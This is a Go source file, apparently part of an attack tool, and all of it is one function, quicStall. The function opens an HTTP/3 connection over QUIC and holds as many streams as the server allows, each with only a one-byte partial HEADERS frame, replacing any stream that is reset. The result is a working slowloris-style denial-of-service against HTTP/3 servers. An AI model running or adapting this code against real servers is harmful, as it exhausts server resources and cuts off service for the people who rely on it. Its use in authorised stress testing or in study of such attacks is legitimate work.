package attack

import (
	"context"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
)

// quicStall opens a QUIC connection and then request streams, as many as the server
// allows at a time, each carrying one byte — the type of a HEADERS frame — and nothing
// more: the server has a stream it must keep until its header timeout. A stream the
// server ends (reset or timeout) is replaced by a new one, so the attack holds as many
// as it is let.
func quicStall(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	udp, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 0)))
	if err != nil {
		return err
	}
	tr := &quic.Transport{Conn: udp}
	defer tr.Close()
	tc := t.TLS.Clone()
	tc.NextProtos = []string{"h3"}
	dctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	conn, err := tr.Dial(dctx, net.UDPAddrFromAddrPort(t.Addr), tc, &quic.Config{MaxIdleTimeout: 30 * time.Second})
	cancel()
	if err != nil {
		return err
	}
	defer conn.CloseWithError(0, "")
	rec.conns.Add(1)
	var wg sync.WaitGroup
	defer wg.Wait()
	for ctx.Err() == nil {
		str, err := conn.OpenStreamSync(ctx)
		if err != nil {
			return nil
		}
		if _, err := str.Write([]byte{0x01}); err != nil {
			return nil
		}
		rec.sent.Add(1)
		done := rec.opened()
		rec.conns.Add(-1) // opened counts streams here; the connection is counted above
		start := time.Now()
		wg.Go(func() {
			defer done()
			// Read returns when the server resets the stream (or the connection ends).
			stop := context.AfterFunc(ctx, func() { str.CancelRead(0) })
			defer stop()
			var b [1]byte
			str.Read(b[:])
			rec.ended(ctx, time.Since(start))
			str.CancelWrite(0)
		})
	}
	return nil
}
